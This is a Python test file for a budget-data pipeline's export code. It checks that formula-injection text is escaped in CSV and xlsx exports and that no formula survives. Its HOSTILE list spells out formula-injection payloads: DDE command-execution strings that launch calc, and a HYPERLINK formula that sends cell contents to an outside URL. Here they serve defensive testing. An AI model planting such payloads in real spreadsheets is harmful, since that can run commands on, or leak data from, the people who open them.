"""Formula injection: text from an ingested file never becomes a formula in an export.

A line item, an organisation name, a note or a column name that begins with = + - @ (or
tab, CR, LF, or their full-width forms) is written with a leading apostrophe, in xlsx
and in CSV, and an xlsx export contains no formula at all.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import polars as pl
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from pipelines.cli import cli
from pipelines.db import connect_read
from pipelines.export import escape_cell, to_csv_bytes, to_xlsx_bytes
from pipelines.export.cells import FORMULA_PREFIXES

TRIGGERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "+46 8 123 45",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def dangerous(text: str) -> bool:
    return text.lstrip(" ").startswith(tuple(TRIGGERS))


def xlsx_formulas(data: bytes) -> list[str]:
    """Every <f> element in every sheet part of an xlsx."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                part = z.read(name)
                if b"<f>" in part or b"<f " in part:
                    found.append(name)
    return found


def test_prefixes_cover_the_owasp_list():
    assert set("=+-@\t\r") <= set(FORMULA_PREFIXES)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_escaped_text_never_starts_a_formula(text):
    out = escape_cell(text)
    assert not dangerous(out)
    assert out == text or out == "'" + text
    if dangerous(text):
        assert out == "'" + text


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(st.text(alphabet=TRIGGERS + "ab1 ,;\"'", max_size=12), st.integers(-999, 999)),
        min_size=1,
        max_size=8,
    )
)
def test_csv_and_xlsx_round_trip_escaped(rows):
    frame = pl.DataFrame(
        {"line_item": [r[0] for r in rows], "amount": [r[1] for r in rows]},
        schema={"line_item": pl.String, "amount": pl.Int64},
    )
    parsed = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig")), delimiter=";"))
    for (text, amount), (cell, number) in zip(rows, parsed[1:], strict=True):
        assert cell == escape_cell(text)
        assert not dangerous(cell)
        assert number == str(amount)
    data = to_xlsx_bytes({"Blad": frame})
    assert xlsx_formulas(data) == []
    ws = load_workbook(io.BytesIO(data))["Blad"]
    for (text, amount), (cell, number) in zip(
        rows, ws.iter_rows(min_row=2, values_only=True), strict=True
    ):
        assert (cell or "") == escape_cell(text)
        assert number == amount


def test_column_names_and_notes_are_escaped():
    frame = pl.DataFrame({"=rubrik": ["a"], "+belopp": [1]})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["'=rubrik", "'+belopp"]
    wb = load_workbook(io.BytesIO(to_xlsx_bytes({"B": frame}, notes=["=1+1 not"])))
    assert [c.value for c in wb["B"][1]] == ["'=rubrik", "'+belopp"]
    assert wb["Om data"]["A1"].value == "'=1+1 not"


def test_hostile_names_from_an_ingested_workbook_are_inert_in_exports(tmp_path):
    """The whole way: a workbook whose line items are formulas-as-text is ingested, the
    facts are read back and exported; nothing in the exports is a formula."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Drift"
    ws.append(["Mål och budget 2026"])
    ws.append(["Belopp i tkr"])
    ws.append(["Nämnd", "Verksamhet", "Budget 2026"])
    for i, text in enumerate(HOSTILE):
        ws.append(["Kommunstyrelsen", None, 1000 + i])
        cell = ws.cell(row=ws.max_row, column=2)
        cell.value = text
        cell.data_type = "s"  # text in the source, as a municipality's file would have it
    path = tmp_path / "mob-2026.xlsx"
    wb.save(path)
    db = tmp_path / "verkstad.duckdb"
    result = CliRunner().invoke(cli, ["ingest", str(path), "--db", str(db)])
    assert result.exit_code == 0, result.output

    con = connect_read(db)
    try:
        facts = con.sql(
            "select organisation, line_item, amount_sek from facts order by amount_sek"
        ).pl()
    finally:
        con.close()
    items = facts["line_item"].to_list()
    assert sum(dangerous(t) for t in items) >= 6, items  # the hostile text did arrive

    parsed = list(csv.reader(io.StringIO(to_csv_bytes(facts).decode("utf-8-sig")), delimiter=";"))
    assert [row[1] for row in parsed[1:]] == ["'" + t if dangerous(t) else t for t in items]
    assert not any(dangerous(cell) for row in parsed for cell in row[:2])

    data = to_xlsx_bytes({"Fakta": facts})
    assert xlsx_formulas(data) == []
    sheet = load_workbook(io.BytesIO(data))["Fakta"]
    for row in sheet.iter_rows(min_row=2):
        assert row[1].data_type == "s"
        assert not dangerous(row[1].value)
